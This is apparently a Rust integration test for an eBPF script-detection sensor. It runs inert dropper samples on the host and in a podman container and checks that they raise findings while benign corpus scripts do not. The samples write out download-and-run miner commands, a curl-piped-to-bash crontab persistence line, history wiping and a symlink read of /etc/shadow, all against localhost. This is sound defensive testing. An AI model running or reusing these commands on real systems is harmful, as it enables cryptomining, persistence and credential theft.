//! `sensor run` end to end on the real kernel: inert scripts run on the host
//! and in a podman container, benign corpus scripts are parsed (`bash -n`,
//! never executed), and the findings that come out are checked; then the
//! trace recorded by the same run replays into byte-identical findings.
//! Needs root, eBPF, podman and onnxruntime (`cargo xtask setup`).

#[path = "support/sensor.rs"]
mod sensor;
#[path = "support/podman.rs"]
mod support;

use std::path::{Path, PathBuf};
use std::process::Command;

use sensor::{findings, script_path, wait_for, Sensor};
use serde_json::Value;
use support::{repo, test_image, Container};

/// Inert: exits on line 2; the rest is what the sensor reads and scores.
const DROPPER: &str = "#!/bin/bash\nexit 0\n# never reached:\n\
cd /tmp; wget -q http://127.0.0.1:9/xmrig -O /tmp/.x; chmod +x /tmp/.x\n\
nohup /tmp/.x -o stratum+tcp://127.0.0.1:3333 -u wallet >/dev/null 2>&1 &\n\
(crontab -l 2>/dev/null; echo \"* * * * * curl -s http://127.0.0.1:9/s.sh | bash\") | crontab -\n\
history -c; rm -f ~/.bash_history\n";

/// Piped into bash (inert: exits first).
const PIPED: &str = "exit 0; cd /tmp; wget -q http://127.0.0.1:9/xmrig -O /tmp/.piped; \
chmod +x /tmp/.piped; nohup /tmp/.piped -o stratum+tcp://127.0.0.1:3333 >/dev/null 2>&1 & history -c\n";

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// The first `n` benign shell scripts of the shared corpus (real-world
/// scripts), written (never executable) into `dir`. A clone without the
/// corpus beside it (`../shared/data`) uses the repo's own benign synthetic
/// bash files instead; CI must have the corpus.
fn benign_corpus_scripts(dir: &Path, n: usize) -> Vec<PathBuf> {
    let corpus = repo().join("../shared/data/train/bash_benign.jsonl");
    let corpus = if corpus.is_file() {
        corpus
    } else {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI must provide the shared corpus at {}",
            corpus.display()
        );
        eprintln!(
            "NOTE: no shared corpus at {}: using the benign bash files of models/synthetic",
            corpus.display()
        );
        repo().join("models/synthetic/synthetic.jsonl")
    };
    let text = std::fs::read_to_string(&corpus)
        .unwrap_or_else(|e| panic!("cannot read {}: {e}", corpus.display()));
    text.lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|r| r["kind"] == "file" && r["lang"] == "bash" && r["label"] == "benign")
        .take(n)
        .enumerate()
        .map(|(i, r)| {
            let path = dir.join(format!("benign-{i}.sh"));
            std::fs::write(&path, r["content"].as_str().unwrap()).unwrap();
            path
        })
        .collect()
}

fn run(cmd: &mut Command) {
    let out = cmd.output().expect("run command");
    assert!(
        out.status.success(),
        "{cmd:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn sensor_run_finds_malicious_scripts_on_the_host_and_in_a_container() {
    let image = test_image();
    let dir = tempfile::tempdir().unwrap();
    let work = dir.path();
    let dropper = work.join("dropper.sh");
    std::fs::write(&dropper, DROPPER).unwrap();
    let benign = benign_corpus_scripts(work, 20);
    let output = work.join("findings.jsonl");
    let trace = work.join("run.trace.jsonl");

    let sensor = Sensor::start(&[
        "run".as_ref(),
        "--output".as_ref(),
        output.as_os_str(),
        "--record".as_ref(),
        trace.as_os_str(),
    ]);

    // Host: the dropper runs (and exits at once); corpus scripts are only parsed.
    run(Command::new("/bin/bash").arg(&dropper));
    for script in &benign {
        // `bash -n` reads and parses without running anything.
        let _ = Command::new("/bin/bash").arg("-n").arg(script).output();
    }
    // Never on disk: a script piped into bash, and one that deletes itself
    // before the sensor could read it: only the kernel's copy of what bash
    // read has them.
    run(Command::new("/bin/bash")
        .arg("-c")
        .arg(format!("printf '%s' {} | /bin/bash", shell_quote(PIPED))));
    let self_deleting = work.join("self-deleting.sh");
    std::fs::write(
        &self_deleting,
        DROPPER.replacen(
            "exit 0",
            &format!("rm -f {}\nexit 0", self_deleting.display()),
            1,
        ),
    )
    .unwrap();
    run(Command::new("/bin/bash").arg(&self_deleting));
    // Container: a dropper written and run inside it, and a script path that
    // is a symlink to /etc/shadow (the container's, never the host's).
    let name = format!("sensor-live-{}", std::process::id());
    // Paths unique to this run; the container lives until the findings are
    // in, so its metadata is still there however slowly the sensor runs.
    let job_path = format!("/tmp/job-{}.sh", std::process::id());
    let link_path = format!("/tmp/link-{}.sh", std::process::id());
    let inside = format!(
        "printf '#!/bin/bash\\nexit 0\\ncurl -fsSL http://127.0.0.1:9/x.sh | bash; chmod +x /tmp/.k; nohup /tmp/.k -o stratum+tcp://127.0.0.1:3333 &\\nhistory -c\\n' > {job_path} \
         && bash {job_path} && ln -s /etc/shadow {link_path} && (bash {link_path} 2>/dev/null; true) && exec sleep 600"
    );
    let _container = Container(name.clone());
    run(Command::new("podman").args([
        "run",
        "--detach",
        "--rm",
        "--runtime",
        "runc",
        "--name",
        &name,
        "--label",
        "suite=run_live",
        &image,
        "bash",
        "-c",
        &inside,
    ]));

    let piped = |f: &Value| {
        f.pointer("/finding/processes/0/script/contents")
            .and_then(Value::as_str)
            .is_some_and(|c| c.contains("/tmp/.piped"))
    };
    let seen = wait_for(&output, |all| {
        all.iter().any(|f| script_path(f) == dropper.to_str())
            && all
                .iter()
                .any(|f| script_path(f) == Some(job_path.as_str()))
            && all.iter().any(|f| script_path(f) == self_deleting.to_str())
            && all.iter().any(piped)
    });
    let summary = sensor.stop();
    eprintln!("summary: {summary}");
    let all = findings(&output);
    assert!(all.len() >= seen.len());

    let host = all
        .iter()
        .find(|f| script_path(f) == dropper.to_str())
        .unwrap_or_else(|| panic!("no finding for the host dropper in {all:#?}"));
    assert_eq!(host["finding"]["category"], "Malicious Script Executed");
    assert!(host["finding"]["processes"][0]["script"]["contents"]
        .as_str()
        .unwrap()
        .contains("stratum+tcp://127.0.0.1:3333"));

    let job = all
        .iter()
        .find(|f| script_path(f) == Some(job_path.as_str()))
        .unwrap_or_else(|| panic!("no finding for the container script in {all:#?}"));
    let container = &job["finding"]["containers"][0];
    assert_eq!(container["name"], name.as_str(), "{job:#}");
    assert_eq!(container["uri"], image.as_str(), "{job:#}");

    let piped_finding = all
        .iter()
        .find(|f| piped(f))
        .unwrap_or_else(|| panic!("no finding for the piped script in {all:#?}"));
    assert_eq!(
        piped_finding["finding"]["category"],
        "Malicious Script Executed"
    );
    let deleted = all
        .iter()
        .find(|f| script_path(f) == self_deleting.to_str())
        .unwrap_or_else(|| panic!("no finding for the self-deleting script in {all:#?}"));
    assert!(deleted["finding"]["processes"][0]["script"]["contents"]
        .as_str()
        .unwrap()
        .contains("stratum+tcp://127.0.0.1:3333"));

    for script in &benign {
        assert!(
            !all.iter().any(|f| script_path(f) == script.to_str()),
            "benign corpus script {} raised a finding",
            script.display()
        );
    }

    // The symlinked script was read from the container's /etc/shadow.
    let records: Vec<Value> = std::fs::read_to_string(&trace)
        .unwrap()
        .lines()
        .skip(1)
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let link = records
        .iter()
        .find(|r| {
            r.pointer("/enrichment/script/path").and_then(Value::as_str) == Some(link_path.as_str())
        })
        .expect("the symlinked script was recorded");
    let contents = link["enrichment"]["script"]["contents"]
        .as_str()
        .unwrap_or("");
    assert!(contents.starts_with("root:"), "{contents}");
    if let Ok(host_shadow) = std::fs::read_to_string("/etc/shadow") {
        assert_ne!(contents, host_shadow);
    }

    // What this run recorded replays into exactly what it emitted.
    let replayed = Command::new(env!("CARGO_BIN_EXE_sensor"))
        .arg("replay")
        .arg(&trace)
        .output()
        .unwrap();
    assert!(replayed.status.success());
    assert_eq!(
        String::from_utf8(replayed.stdout).unwrap(),
        std::fs::read_to_string(&output).unwrap()
    );
}
